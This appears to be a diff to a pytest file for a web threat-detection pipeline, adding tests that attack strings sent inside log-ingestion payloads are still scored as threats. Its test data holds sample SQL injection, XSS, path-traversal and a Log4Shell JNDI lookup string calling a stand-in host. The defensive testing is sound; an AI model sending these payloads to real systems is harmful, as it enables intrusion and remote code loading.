@@ -2,14 +2,20 @@
 
 from __future__ import annotations
 
+import json
 import time
 
 import pytest
 
+from signoff.actions.action import Json
 from signoff.assess.contexts.idioms import IDIOMS, without_idioms
 from signoff.pipeline import Pipeline, web_detectors, web_request
 
 PIPELINE = Pipeline.sync(web_detectors())
+LOG_PATHS = (
+    *("/api/5/envelope/", "/loki/api/v1/push", "/v1/logs", "/services/collector/event"),
+    *("/api/v2/logs", "/app.log"),
+)
 
 
 def found(value: str, name: str = "note") -> set[str]:
@@ -93,19 +99,46 @@ def test_filters_compare(query: str, *, is_found: bool) -> None:
     assert is_found is ("nosql-injection" in {one.detector for one in results})
 
 
-@pytest.mark.parametrize("path", ["/api/5/envelope/", "/loki/api/v1/push", "/v1/logs"])
+LINE = "GET /?id=1' or 1=1-- <script>x()</script> ../../etc/passwd"
+
+
+def score_of(path: str, body: Json, kind: str = "application/json") -> float:
+    headers = {"Content-Type": kind}
+    request = web_request(path, method="POST", headers=headers, body=json.dumps(body))
+    return PIPELINE.decide(request).threat.score
+
+
+def log_of(name: str, line: str) -> dict[str, Json]:
+    """Write a line as a program hands it in."""
+    documents: dict[str, dict[str, Json]] = {
+        "/api/5/envelope/": {"exception": {"values": [{"type": "E", "value": line}]}},
+        "/loki/api/v1/push": {"streams": [{"stream": {"app": "web"}, "values": [["1", line]]}]},
+        "/v1/logs": {"resourceLogs": [{"scopeLogs": [{"logRecords": [{"body": line}]}]}]},
+        "/services/collector/event": {"event": line, "sourcetype": "web"},
+        "/api/v2/logs": {"ddsource": "web", "message": line},
+        "/app.log": {"log": line, "stream": "stdout"},
+    }
+    return documents[name]
+
+
+@pytest.mark.parametrize("path", [*LOG_PATHS])
 def test_logs_hold_what_attackers_sent(path: str) -> None:
-    """Where logs are handed in nothing but what harms a reader of logs counts; elsewhere all."""
-    line = "GET /?id=1' or 1=1-- <script>x()</script> ../../etc/passwd"
-    harmful = {"line": "${jndi:ldap://e.example/a}"}
-    headers = {"Content-Type": "application/json"}
+    """Where logs are handed in nothing but what harms a reader of logs counts."""
+    harmful = "${jndi:ldap://e.example/a}"
+    assert (0, True) == (
+        score_of(path, log_of(path, LINE)),
+        score_of(path, log_of(path, harmful)) >= 70,
+    )
 
-    def score(path: str, body: dict[str, str]) -> float:
-        request = web_request(path, method="POST", headers=headers, body=body)
-        return PIPELINE.decide(request).threat.score
 
-    assert (0, True) == (score(path, {"line": line}), score("/notes", {"line": line}) >= 70)
-    assert score(path, harmful) >= 70
+@pytest.mark.parametrize("path", [*LOG_PATHS])
+def test_a_path_or_a_form_hides_nothing(path: str) -> None:
+    """A caller chooses both, so a member of another kind makes a log a request like any other."""
+    log = log_of(path, "a line")
+    assert score_of(path, {"name": LINE}) >= 70
+    assert score_of(path, {**log, "name": LINE}) >= 70
+    assert score_of("/shop/cart/store", {"message": LINE}) >= 70
+    assert path == "/app.log" or score_of("/shop/notes", log_of(path, LINE)) >= 70
 
 
 def test_a_browser_reports_what_it_blocked() -> None:
@@ -118,6 +151,7 @@ def test_a_browser_reports_what_it_blocked() -> None:
         return PIPELINE.decide(request).threat.score
 
     assert (0, True) == (score({"csp-report": sample}), score({"a": "<script>x()</script>"}) >= 70)
+    assert score({"csp-report": sample, "a": "<script>x()</script>"}) >= 70
 
 
 def test_code_blocks_of_rich_documents_are_shown() -> None:
@@ -130,6 +164,8 @@ def test_code_blocks_of_rich_documents_are_shown() -> None:
         return bool(PIPELINE.decide(request).threat.results)
 
     assert not is_found({"type": "code_block", "text": line})
+    assert is_found({"type": "code_block", "text": line, "author": "ann"})
+    assert score_of("/pages", {"type": "code_block", "text": line}) >= 70
     assert is_found({"type": "code_block", "command": line})
     assert is_found({"type": "paragraph", "text": line})
 
